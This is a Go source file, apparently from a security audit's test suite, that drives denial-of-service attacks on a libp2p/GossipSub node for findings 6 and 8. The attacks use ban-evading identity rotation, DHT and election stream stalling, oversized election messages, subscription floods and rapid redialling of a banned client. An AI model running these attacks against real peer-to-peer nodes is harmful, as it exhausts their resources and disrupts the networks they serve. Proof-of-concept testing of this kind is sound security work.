package attack

import (
	"context"
	"time"

	"github.com/libp2p/go-libp2p/core/host"
)

// The memory and redial attacks (memory.go, redial.go) as the live suite
// runs them: each round under fresh identities (a banned one comes back
// as another), one round a second, until ctx ends.

// fresh returns n new hosts that speak GossipSub, connected to t's
// victim; close them with closeAll.
func fresh(ctx context.Context, t Target, n int) ([]host.Host, error) {
	hs := make([]host.Host, 0, n)
	for range n {
		h, err := NewHost()
		if err != nil {
			closeAll(hs)
			return nil, err
		}
		SpeakGossipSub(h)
		_ = h.Connect(ctx, t.Victim)
		hs = append(hs, h)
	}
	return hs, nil
}

func closeAll(hs []host.Host) {
	for _, h := range hs {
		_ = h.Close()
	}
}

// rounds runs round every second under fresh identities (n hosts each)
// until ctx ends, and releases every round's hosts and streams at the end.
func rounds(ctx context.Context, t Target, n int, round func(hs []host.Host) *Stalled) error {
	var all []host.Host
	var held []*Stalled
	defer func() {
		for _, s := range held {
			s.Close()
		}
		closeAll(all)
	}()
	for ctx.Err() == nil {
		hs, err := fresh(ctx, t, n)
		if err != nil {
			return err
		}
		all = append(all, hs...)
		if s := round(hs); s != nil {
			held = append(held, s)
		}
		select {
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
	}
	return nil
}

// DHTStall is finding 6's kad-dht vector: four fresh identities a second,
// each stalling 64 streams on the overlay's DHT protocol.
func DHTStall(ctx context.Context, t Target) error {
	return rounds(ctx, t, 4, func(hs []host.Host) *Stalled { return StallDHT(ctx, hs, t.Victim.ID, t.Network, 64) })
}

// ElectionMemory is finding 6's election vectors: one fresh identity a
// second sends 16 election messages of 190 KiB from no member, three more
// stall 64 election streams each.
func ElectionMemory(ctx context.Context, t Target) error {
	return rounds(ctx, t, 4, func(hs []host.Host) *Stalled {
		LargeElections(ctx, hs[:1], t.Victim.ID, t.Network, 16, 190<<10)
		return StallElection(ctx, hs[1:], t.Victim.ID, t.Network, 64)
	})
}

// Subscriptions is finding 6's GossipSub vector: two fresh identities a
// second, each subscribing to 400 RPCs of 2,000 made-up topics.
func Subscriptions(ctx context.Context, t Target) error {
	return rounds(ctx, t, 2, func(hs []host.Host) *Stalled {
		var out Stalled
		for _, h := range hs {
			s, _ := SubscriptionFlood(ctx, h, t.Victim.ID, 400, 2000)
			out.Opened += s.Opened
			out.Failed += s.Failed
			out.streams = append(out.streams, s.streams...)
		}
		return &out
	})
}

// BannedRedial is finding 8: a client gets itself banned (five bad
// frames) and then redials as fast as it can.
func BannedRedial(ctx context.Context, t Target) error {
	h, err := NewHost()
	if err != nil {
		return err
	}
	defer h.Close()
	if err := h.Connect(ctx, t.Victim); err != nil {
		return nil // refused already: nothing to redial from
	}
	Provoke(ctx, h, t.Victim.ID, t.Network)
	Redial(ctx, h, t.Victim, 1<<30)
	return nil
}
